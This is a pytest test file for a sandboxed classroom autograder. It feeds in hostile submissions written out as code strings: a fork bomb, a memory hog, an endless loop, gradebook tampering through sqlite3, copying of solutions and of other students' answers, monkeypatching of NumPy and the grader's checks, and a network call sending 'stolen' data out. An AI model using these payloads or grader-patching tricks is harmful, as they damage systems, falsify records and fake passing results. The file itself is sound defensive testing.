"""Hostile submissions through the class grader (`course.py grade`), with the sandbox.

One course copy, one grading run: honest students next to submissions that try to cheat
(exec the model answers from solutions/, copy another student's hand-in, patch NumPy and the
checks to pass anything) or to do damage (rewrite the gradebook with sqlite3, fork bomb,
20 GB, 1 GB of output, an endless loop, os._exit, network calls). Each must score 0 or be
flagged and held; the gradebook entries of everyone else and every file outside the grader's
own output are unchanged; honest students get exactly the scores of an ordinary grading.
"""
from __future__ import annotations

import hashlib
import os
import shutil
import socket
import subprocess
import sys
import threading
from pathlib import Path

import nbformat
import pytest

import synthetic_class as sc
from test_classgrade import ASSIGNMENT, NOTEBOOK, gradebook

REPO = Path(__file__).resolve().parents[1]
TIMEOUT = 5


def _sandbox_or_skip():
    from bpkit.grading import sandbox
    why = sandbox.probe()
    if why is not None:
        if os.environ.get("CI") == "true":
            pytest.fail(f"CI=true but no sandbox can be made: {why}")
        pytest.skip(f"no sandbox on this machine: {why}")


# The answers' own hostile code. {ROOTS}: where a submission might look for the course.
FIND = '''
import os, glob
def _course_paths(pattern):
    roots = {os.getcwd(), os.path.expanduser("~"), "/", "/work", "/root", "/tmp", "/home", %r}
    for up in range(6):
        roots.add(os.path.abspath(os.path.join(os.getcwd(), *[".."] * up)))
    found = []
    for r in roots:
        found += glob.glob(os.path.join(r, pattern)) + glob.glob(os.path.join(r, "*", pattern))
    return sorted(set(found))
'''

READ_SOLUTIONS = FIND + '''
import json, re
for _p in _course_paths("solutions/*/*.ipynb"):
    for _c in json.load(open(_p))["cells"]:
        _s = "".join(_c["source"])
        if _c["cell_type"] == "code" and "BEGIN SOLUTION" in _s:
            try:
                exec(re.sub(r"### (BEGIN|END) SOLUTION", "", _s), globals())
            except Exception:
                pass
'''

COPY_OTHER = FIND + '''
import json
for _p in _course_paths("submitted/*/01-single-neuron/*.ipynb"):
    if "correct-001" not in _p:
        continue
    for _c in json.load(open(_p))["cells"]:
        if _c["cell_type"] == "code" and _c["metadata"].get("nbgrader", {}).get("solution"):
            try:
                exec("".join(_c["source"]), globals())
            except Exception:
                pass
'''

SQLITE = FIND + '''
import sqlite3
for _p in _course_paths("gradebook.db"):
    _db = sqlite3.connect(_p)
    _db.execute("UPDATE grade SET manual_score = 999")
    _db.commit()
'''

PATCH = '''
import numpy as np
import bpkit.grading as _g
class _Anything(np.ndarray):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
def _yes(*args, **kwargs): return True
for _name in ("allclose", "isclose", "array_equal", "all", "any"):
    setattr(np, _name, _yes)
for _mod in (_g.stage1, _g.stage2, _g.stage3, _g.stage4, _g.engine, _g.check):
    for _name in dir(_mod):
        if _name.startswith("check"):
            setattr(_mod, _name, lambda *a, **k: None)
def _stub(*args, **kwargs):
    return np.zeros((1, 1)).view(_Anything)
for _f in ("sigmoid", "sigmoid_prime", "neuron_forward", "neuron_gradients", "gradient_step",
           "train_neuron", "central_difference", "seed004_hidden_gradients", "seed004_fixed_gradients"):
    globals()[_f] = _stub
'''

FORK_BOMB = '''
import os
while True:
    try:
        os.fork()
    except OSError:
        break
'''

MEMORY = "import numpy as np\nhog = np.ones(20 * 2**30 // 8)\nhog[::4096] = 2.0\n"
PRINT = "import sys\nfor _ in range(1 << 20):\n    sys.stdout.write('x' * 1024)\n"
LOOP = "while True:\n    pass\n"
EXIT = "import os\nos._exit(3)\n"
NETWORK = '''
import socket, urllib.request
for _addr in (("1.1.1.1", 80), ("127.0.0.1", %d)):
    try:
        socket.create_connection(_addr, timeout=2).sendall(b"stolen")
    except OSError as _e:
        print("blocked:", _e)
urllib.request.urlopen("http://127.0.0.1:%d/stolen", timeout=2)
'''

HOSTILE = ("read-solutions", "copy-other", "sqlite", "patch", "fork-bomb", "memory", "print",
           "loop", "exit", "network")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    _sandbox_or_skip()
    base = tmp_path_factory.mktemp("hostile")
    root = sc.make_course(base / "course", [ASSIGNMENT])
    config = root / "nbgrader_config.py"
    config.write_text(config.read_text().replace("TIMEOUT = 10\n", f"TIMEOUT = {TIMEOUT}\n"))
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.2)
    port = listener.getsockname()[1]
    contacts: list = []
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                contacts.append(listener.accept())
            except OSError:
                pass
    threading.Thread(target=accept, daemon=True).start()

    import students_stage1 as s
    first = s.GRADE_IDS[0]
    honest = sc.stage1_class(correct=2, mistakes=2, blank=0)
    for name, sub in honest.items():
        sc.hand_in(root, ASSIGNMENT, NOTEBOOK, name, sub)
    code = {"read-solutions": READ_SOLUTIONS % str(REPO), "copy-other": COPY_OTHER % str(root),
            "sqlite": SQLITE % str(root), "patch": PATCH, "fork-bomb": FORK_BOMB,
            "memory": MEMORY, "print": PRINT, "loop": LOOP, "exit": EXIT,
            "network": NETWORK % (port, port)}
    for name in HOSTILE:
        sc.hand_in(root, ASSIGNMENT, NOTEBOOK, name, sc.Submission({first: code[name]}, set(s.GRADE_IDS)))

    # An ordinary grading of the honest students first, and a manual score an attack could change.
    env = {**sc.nbgrader_env(root), "HOME": str(base / "home")}
    (base / "home").mkdir()
    (base / "home" / "secret.txt").write_text("the instructor's")
    first_run = _grade(root, env, "--student=correct-001")
    assert first_run.returncode == 0, first_run.stdout[-3000:]
    from nbgrader.api import Gradebook
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}", "bpkit") as gb:
        grade = gb.find_grade("input_gradient", NOTEBOOK, ASSIGNMENT, "correct-001")
        grade.manual_score = 1.5
        gb.db.commit()
    before_book = gradebook(root)
    before_files = _tree(root) | _tree(base / "home") | _tree(REPO / "solutions")
    second = _grade(root, env)
    stop.set()
    listener.close()
    return {"root": root, "home": base / "home", "honest": honest, "run": second,
            "before_book": before_book, "before_files": before_files, "contacts": contacts}


def _grade(root: Path, env: dict, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "bpkit.grading.classgrade", ASSIGNMENT,
                           f"--root={root}", "--jobs=2", *args], cwd=root, env=env,
                          capture_output=True, text=True, timeout=900)


SKIP = ("gradebook.db", "autograded", "reports", "feedback", "grades.csv")


def _tree(folder: Path) -> dict[str, str]:
    out = {}
    for path in sorted(folder.rglob("*")):
        rel = path.relative_to(folder.parent)
        if path.is_file() and not any(part in SKIP for part in path.relative_to(folder).parts[:1]):
            out[str(rel)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return out


def _records(root):
    from bpkit.grading.classgrade import read_records
    return read_records(root, ASSIGNMENT)


def test_every_hostile_submission_scores_zero_or_is_held(hostile):
    book, records = gradebook(hostile["root"]), _records(hostile["root"])
    for name in HOSTILE:
        score = book.get(name, {}).get("score", 0.0)
        held = records[name].get("held")
        assert score == 0.0 or held, (name, score, records[name]["status"])


def test_the_cheats_are_flagged_with_their_line(hostile):
    records = _records(hostile["root"])
    for name in ("read-solutions", "copy-other", "sqlite", "patch", "fork-bomb", "network"):
        flags = [f for nb in records[name]["notebooks"].values() for f in nb.get("flags", [])]
        assert flags and records[name]["held"], name
        assert all(f["line"] >= 0 for f in flags)


def test_patching_the_checks_does_not_pass_a_single_cell(hostile):
    """The kernel's own test cells pass (everything was patched); the grader's trusted verdicts
    do not: zero points, and the recording is named as untrustworthy."""
    book = gradebook(hostile["root"])
    assert book["patch"]["score"] == 0.0, book["patch"]
    record = _records(hostile["root"])["patch"]
    kinds = {f["kind"] for nb in record["notebooks"].values() for f in nb.get("flags", [])}
    assert "changed the grader's recording" in kinds, kinds


def test_honest_students_get_the_scores_of_an_ordinary_grading(hostile):
    book = gradebook(hostile["root"])
    release = nbformat.read(hostile["root"] / "exercises" / ASSIGNMENT / f"{NOTEBOOK}.ipynb", as_version=4)
    for name, sub in hostile["honest"].items():
        expected = sc.expected_scores(release, sub)
        got = {cell: auto for (nb, cell), (auto, manual, top, needs) in book[name]["cells"].items()
               if cell in expected}
        assert got == expected, name
        assert not _records(hostile["root"])[name].get("held"), name


def test_the_gradebook_entries_of_others_are_unchanged(hostile):
    after = gradebook(hostile["root"])
    for name, state in hostile["before_book"].items():
        assert after[name] == state, name
    manual = after["correct-001"]["cells"][(NOTEBOOK, "input_gradient")][1]
    assert manual == 1.5


def test_no_file_outside_the_graders_output_changed(hostile):
    root, home = hostile["root"], hostile["home"]
    after = _tree(root) | _tree(home) | _tree(REPO / "solutions")
    assert after == hostile["before_files"]


def test_nothing_reached_the_network(hostile):
    assert hostile["contacts"] == []


def test_what_happened_to_the_damaging_ones(hostile):
    records = _records(hostile["root"])
    assert records["exit"]["status"] == "crashed"
    assert records["loop"]["status"] in ("timed out", "graded")
    for name in ("memory", "print", "fork-bomb", "network", "sqlite"):
        assert records[name]["status"] in ("graded", "timed out", "crashed", "stopped"), records[name]
    summary = hostile["run"].stdout
    assert "Flagged and held for your review" in summary, summary[-2000:]


def test_without_a_sandbox_grading_refuses_unless_unsafe(hostile):
    """No bubblewrap: `course.py grade` says why and grades nothing; --unsafe grades (with the
    instructor's rights, the same scores for an honest hand-in). Runs last: it regrades one."""
    root = hostile["root"]
    env = {**sc.nbgrader_env(root), "BPKIT_BWRAP": str(root / "no-bwrap-here")}
    before = gradebook(root)
    refused = _grade(root, env, "--student=correct-001", "--force")
    assert refused.returncode == 1
    assert "no sandbox can be made here (install bubblewrap" in refused.stdout, refused.stdout
    assert "--unsafe" in refused.stdout, refused.stdout
    assert gradebook(root) == before
    unsafe = _grade(root, env, "--student=correct-001", "--force", "--unsafe")
    assert unsafe.returncode == 0, unsafe.stdout[-3000:]
    assert gradebook(root)["correct-001"] == before["correct-001"]
